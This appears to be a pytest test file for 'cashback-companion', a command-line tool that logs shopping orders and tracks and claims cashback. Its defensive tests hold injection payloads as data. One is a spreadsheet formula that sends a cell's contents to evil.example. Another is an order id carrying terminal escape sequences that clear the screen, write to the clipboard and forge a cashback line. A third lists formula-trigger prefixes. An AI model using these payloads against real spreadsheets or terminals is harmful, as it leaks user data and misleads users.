"""``cashback-companion`` log, order, claim and open, run as the shopper runs them."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from companion.cli import main
from companion.config import data_dir, db_path
from companion.ledger.spreadsheet import cell
from tests.unit.ledger_seed import CATALOG

ADD = [
    "order",
    "add",
    "--partner",
    "shop",
    "--program",
    "mts",
    "--amount",
    "2450.50",
    "--currency",
    "RUB",
    "--ordered-at",
    "2026-01-10T12:00:00+03:00",
    "--order-id",
]


@pytest.fixture(autouse=True)
def catalog(tmp_path: Path, companion_home: Path) -> None:
    path = tmp_path / "catalog.json"
    path.write_text(json.dumps(CATALOG), encoding="utf-8")
    assert main(["catalog", "import", str(path)]) == 0


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def run_json(capsys: pytest.CaptureFixture[str], *argv: str) -> Any:
    code, out, err = run(capsys, *argv, "--json")
    assert code == 0, err
    return json.loads(out)


def count_orders() -> int:
    with sqlite3.connect(db_path(data_dir())) as db:
        return int(db.execute("SELECT COUNT(*) FROM orders").fetchone()[0])


def test_add_confirm_credit(capsys: pytest.CaptureFixture[str]) -> None:
    added = run_json(capsys, *ADD, "APP-1")
    assert added["id"] == "o1"
    assert (added["order_id"], added["order_amount"], added["order_currency"]) == (
        "APP-1",
        "2450.50",
        "RUB",
    )
    assert added["ordered_at"] == "2026-01-10T09:00:00.000Z"
    assert added["expected_cashback"] == "123"
    assert added["confirmation_due"] == "2026-04-10"
    # Past its due date by now: no payout date to wait for, and the line says what to do.
    assert (added["ledger_state"], added["expected_payout"]) == ("overdue", None)
    assert "expect 123 RUB (overdue since 2026-04-10: `claim o1`)" in run(capsys, "log")[1]

    confirmed = run_json(capsys, "order", "confirm", added["id"], "--at", "2026-02-20")
    assert (confirmed["ledger_state"], confirmed["expected_payout"]) == ("confirmed", "2026-03-01")
    credited = run_json(capsys, "order", "credit", "o1", "--amount", "123", "--at", "2026-03-01")
    assert (credited["ledger_state"], credited["credited_cashback"]) == ("credited", "123")
    # It is in the log like any other purchase.
    log = run_json(capsys, "log")
    assert [r["id"] for r in log] == ["o1"]
    assert log[0]["ledger_state"] == "credited"


def test_decline(capsys: pytest.CaptureFixture[str]) -> None:
    run_json(capsys, *ADD, "APP-2")
    declined = run_json(capsys, "order", "decline", "o1", "--at", "2026-02-01")
    assert (declined["ledger_state"], declined["expected_cashback"]) == ("declined", "0")
    code, out, _ = run(capsys, "order", "decline", "o1", "--at", "2026-02-02")
    assert code == 0
    assert "declined" in out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        ([*ADD[:3], "nowhere", *ADD[4:], "X"], "--partner: no partner 'nowhere'"),
        ([*ADD[:9], "rub", *ADD[10:], "X"], "--currency: must be a three-letter code"),
        ([*ADD[:7], "lots", *ADD[8:], "X"], "--amount: 'lots' is not an amount"),
        (
            [*ADD[:11], "2026-01-10 12:00", *ADD[12:], "X"],
            "--ordered-at: '2026-01-10 12:00' is not a time with a zone",
        ),
        ([*ADD[:11], "yesterday", *ADD[12:], "X"], "--ordered-at: 'yesterday' is not a time"),
        ([*ADD, "APP-1"], "already in the log as o1"),
        (["order", "confirm", "o1", "--at", "01/02/2026"], "--at: '01/02/2026' is not a date"),
        (["order", "confirm", "o1", "--at", "2025-12-31"], "--at: 2025-12-31 is before the order"),
        (["order", "confirm", "o99"], "no purchase 'o99'"),
        (["order", "credit", "o1", "--amount", "5"], "mark the order confirmed first"),
        (["claim", "o99"], "no purchase 'o99'"),
    ],
)
def test_refusals_exit_1_and_change_nothing(
    capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    run_json(capsys, *ADD, "APP-1")
    before = run_json(capsys, "log")
    code, out, err = run(capsys, *argv)
    assert code == 1
    assert out == ""
    assert message in err
    assert "Traceback" not in err
    assert run_json(capsys, "log") == before


def test_log_says_what_it_left_out_and_why_nothing_shows(
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, out, _ = run(capsys, "log")
    assert (code, out.strip()) == (
        0,
        "No purchases yet. Activate cashback on a partner store from the browser extension.",
    )
    for number in ("A-1", "A-2", "A-3"):
        run_json(capsys, *ADD, number)
    code, out, _ = run(capsys, "log", "--status", "declined")
    assert (code, out.strip()) == (0, "No purchases match these filters.")
    # Every purchase unless --limit says otherwise, and then a word on stderr, not in the data.
    code, out, err = run(capsys, "log", "--csv", "--limit", "2")
    assert (code, len(list(csv.DictReader(io.StringIO(out)))), "--limit 2" in err) == (0, 2, True)
    code, out, err = run(capsys, "log", "--csv")
    assert (code, len(list(csv.DictReader(io.StringIO(out)))), err) == (0, 3, "")
    with pytest.raises(SystemExit) as usage:
        main(["log", "--limit", "0"])
    assert usage.value.code == 2
    assert "'0' is not a whole number of 1 or more" in capsys.readouterr().err
    # A declined order expects nothing, on no day.
    run_json(capsys, "order", "decline", "o1")
    line = next(line for line in run(capsys, "log")[1].splitlines() if " o1 " in line)
    assert "declined" in line
    assert "expect" not in line


def test_log_csv_never_hands_a_spreadsheet_a_formula(capsys: pytest.CaptureFixture[str]) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Order 42")'
    run_json(capsys, *ADD, formula)
    code, out, _ = run(capsys, "log", "--csv")
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["order_id"] == "'" + formula


def test_what_a_page_gave_reaches_the_terminal_and_the_claim_escaped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An order id stored before control characters were refused: shown, never obeyed."""
    run_json(capsys, *ADD, "A-1")
    forged = "A-1\x1b[2J\x1b]52;c;cGF5bWU=\x07\nExpected cashback: 99999 RUB"
    with sqlite3.connect(db_path(data_dir())) as db:
        db.execute("UPDATE orders SET order_id = ?", (forged,))
    for argv in (["log"], ["claim", "o1"]):
        code, out, _ = run(capsys, *argv)
        assert code == 0
        assert "\x1b" not in out
        assert "A-1\\x1b[2J\\x1b]52;c;cGF5bWU=\\x07\\x0aExpected cashback: 99999 RUB" in out
        assert not any(line.startswith("Expected cashback: 99999") for line in out.splitlines())


def test_ordered_at_accepts_the_same_instant_in_any_zone(
    capsys: pytest.CaptureFixture[str],
) -> None:
    moscow = run_json(capsys, *ADD[:11], "2026-01-10T12:00:00+03:00", *ADD[12:], "A")
    utc = run_json(capsys, *ADD[:11], "2026-01-10T09:00:00Z", *ADD[12:], "B")
    assert moscow["ordered_at"] == utc["ordered_at"]


def test_log_filters_csv_and_text(capsys: pytest.CaptureFixture[str]) -> None:
    run_json(capsys, *ADD, "APP-1")
    run_json(capsys, *ADD[:5], "plain", *ADD[6:], "APP-2")
    run_json(capsys, *ADD[:3], "aliexpress", *ADD[4:11], "2025-06-01T10:00:00Z", *ADD[12:], "OLD")
    run_json(capsys, "order", "confirm", "o3", "--at", "2025-07-01")

    def ids(*argv: str) -> list[str]:
        return [r["id"] for r in run_json(capsys, "log", *argv)]

    assert ids() == ["o2", "o1", "o3"]
    assert ids("--program", "plain") == ["o2"]
    assert ids("--store", "aliexpress") == ["o3"]
    assert ids("--status", "confirmed") == ["o3"]
    assert ids("--search", "app-") == ["o2", "o1"]
    assert ids("--since", "2026-01-01") == ["o2", "o1"]
    assert ids("--until", "2025-12-31") == ["o3"]
    assert ids("--limit", "1") == ["o2"]
    code, _, err = run(capsys, "log", "--since", "last week")
    assert (code, "--since: 'last week' is not a date" in err) == (1, True)
    code, _, err = run(capsys, "log", "--until", "9999-12-31")
    assert (code, err.strip()) == (
        1,
        "cashback-companion: --until: 9999-12-31 must be in the years 1970 to 8999",
    )

    code, out, _ = run(capsys, "log", "--csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["order_id"] for row in rows] == ["APP-2", "APP-1", "OLD"]
    assert {
        "expected_cashback",
        "confirmation_due",
        "expected_payout",
        "ledger_state",
        "confirmed_cashback",
    } <= set(rows[0])
    code, out, _ = run(capsys, "log")
    assert "o3" in out
    assert "confirmed" in out
    assert "expect 123 RUB" in out


def test_log_shows_local_times_as_its_day_filters_read_them(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An order at 22:30 UTC on 31 July is on 1 August in Vladivostok: the line and the
    filters agree on the day."""
    monkeypatch.setenv("TZ", "Asia/Vladivostok")
    time.tzset()
    try:
        run_json(capsys, *ADD[:11], "2026-07-31T22:30:00Z", *ADD[12:], "LATE")
        code, out, _ = run(capsys, "log", "--since", "2026-08-01", "--until", "2026-08-01")
        assert code == 0
        assert out.startswith("2026-08-01 08:30  o1 "), out
        assert "No purchases match" in run(capsys, "log", "--until", "2026-07-31")[1]
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


def test_what_the_cli_says_instead_of_doing_the_wrong_thing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run_json(capsys, *ADD, "APP-1")
    # A backup is the whole log: a filter with it is refused, not ignored.
    code, _, err = run(capsys, "log", "--store", "shop", "export", str(tmp_path / "b.json"))
    assert (code, "--store: `log export` takes the whole log" in err) == (1, True)
    assert not (tmp_path / "b.json").exists()
    # A typo in a store's id is named.
    code, out, _ = run(capsys, "log", "--store", "shpo")
    assert "the catalog has no store 'shpo'" in out
    assert "no store" not in run(capsys, "log", "--store", "shop", "--status", "declined")[1]
    # A host alone is not a URL: it would read "not a partner store".
    code, _, err = run(capsys, "match", "ozon.ru")
    assert (code, "'ozon.ru' is not an address" in err) == (1, True)
    # decline takes no sum (it was taken and dropped).
    with pytest.raises(SystemExit):
        main(["order", "decline", "o1", "--amount", "5"])
    assert "unrecognized arguments: --amount" in capsys.readouterr().err
    # An order in another currency than the program pays in is taken, with a word why its
    # expected cashback is unknown.
    code, _, err = run(capsys, *ADD[:9], "EUR", *ADD[10:], "EU-1")
    assert code == 0
    assert "pays in RUB; the expected cashback of an order in EUR is unknown" in err
    # A fixed sum is paid whatever the order's currency: no note then.
    code, out, err = run(
        capsys, "order", "add", "--partner", "trips", *ADD[4:9], "EUR", *ADD[10:], "TRIP-EU"
    )
    assert (code, err) == (0, "")
    assert "expect 300 RUB" in out


def test_open_print_says_when_the_link_cannot_work_yet(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "open", "--print", "--port", "1")
    assert code == 0
    assert out.startswith("http://127.0.0.1:1/login?token=")
    assert "note: the companion is not running on 127.0.0.1:1" in err


def test_catalog_list_keeps_its_columns(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = json.loads(json.dumps(CATALOG))
    shop = document["partners"][0]
    shop["name"] = "A store with a name longer than the column"
    shop["offers"][0].update(rate_percent="12.5", up_to=True)
    path = tmp_path / "long.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    assert run(capsys, "catalog", "import", str(path))[0] == 0
    _, out, _ = run(capsys, "catalog", "list")
    partners = out.split("Partners:\n")[1].splitlines()
    domains = ("shop.example", "aliexpress.com", "trips.example")
    assert len(partners) == len(domains), partners
    # Each line's domains start in the same column, however long the rate before them.
    starts = {line.index(domain) for line, domain in zip(partners, domains, strict=True)}
    assert len(starts) == 1, partners


def test_empty_log_says_what_to_do(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "log")
    assert code == 0
    assert "No purchases yet" in out


def test_export_and_import(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_json(capsys, *ADD, "APP-1")
    run_json(capsys, "order", "confirm", "o1", "--at", "2026-02-01")
    backup = tmp_path / "backup.json"
    code, out, _ = run(capsys, "log", "export", str(backup))
    assert code == 0
    assert f"to {backup}" in out
    assert not list(tmp_path.glob(".backup.json.partial"))
    document = json.loads(backup.read_text(encoding="utf-8"))
    assert document["orders"][0]["expected_cashback"] == "123"

    # Same file again: nothing new.
    code, out, _ = run(capsys, "log", "import", str(backup))
    assert code == 0
    assert "Imported 0 clicks, 0 events, 0 orders and 0 runs of the tracking checks" in out
    assert "1 were already stored" in out
    assert count_orders() == 1


def test_import_refuses_a_bad_file_and_keeps_the_log(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run_json(capsys, *ADD, "APP-1")
    before = run_json(capsys, "log")
    broken = tmp_path / "broken.json"
    broken.write_text('{"format": "cashback-companion-ledger", "version": 1}', encoding="utf-8")
    code, _, err = run(capsys, "log", "import", str(broken))
    assert code == 1
    assert "exported_at: Field required" in err
    assert "Nothing was imported; the stored log is unchanged." in err
    code, _, err = run(capsys, "log", "import", str(tmp_path / "missing.json"))
    assert code == 1
    assert "cannot read" in err
    assert run_json(capsys, "log") == before


def test_claim(capsys: pytest.CaptureFixture[str]) -> None:
    run_json(capsys, *ADD, "APP-1")
    evidence = run_json(capsys, "claim", "o1")
    assert evidence["order"]["id"] == "APP-1"
    assert evidence["checks"] == []
    code, out, _ = run(capsys, "claim", "o1")
    assert code == 0
    assert "Order: APP-1, 2450.50 RUB, placed 2026-01-10 12:00 (Europe/Moscow)" in out
    code, out, _ = run(capsys, "claim", "o1", "--lang", "ru")
    assert "Заказ: APP-1" in out


def test_open_prints_a_one_time_link(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "open", "--print", "--port", "47999")
    assert code == 0
    url = urlsplit(out.strip())
    assert (url.scheme, url.netloc, url.path) == ("http", "127.0.0.1:47999", "/login")
    token = parse_qs(url.query)["token"][0]
    assert len(token) >= 40
    with sqlite3.connect(db_path(data_dir())) as db:
        stored = [row[0] for row in db.execute("SELECT token_hash FROM dashboard_logins")]
    assert len(stored) == 1
    assert token not in stored[0]  # only its hash is kept


def test_open_says_when_the_companion_is_not_running(capsys: pytest.CaptureFixture[str]) -> None:
    from tests.conftest import free_port

    code, out, err = run(capsys, "open", "--port", str(free_port()))
    assert code == 1
    assert "not running" in err
    assert "token" not in out + err


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("  =HYPERLINK(1)", "'  =HYPERLINK(1)"),  # blanks first: some spreadsheets skip them
        ("\u00a0+1", "'\u00a0+1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # the full-width equals sign
        ("\n@x", "'\n@x"),
        ("\u2003\u200b=1", "'\u2003\u200b=1"),  # an em space, a zero-width space
        ("\ufeff-1", "'\ufeff-1"),
        ("S-50001", "S-50001"),  # an order id with a hyphen inside is left alone
        ("  A-1", "  A-1"),
        ("", ""),
        (None, None),
        (12, 12),
    ],
)
def test_a_spreadsheet_cell_that_could_start_a_formula_is_quoted(
    value: object, shown: object
) -> None:
    assert cell(value) == shown
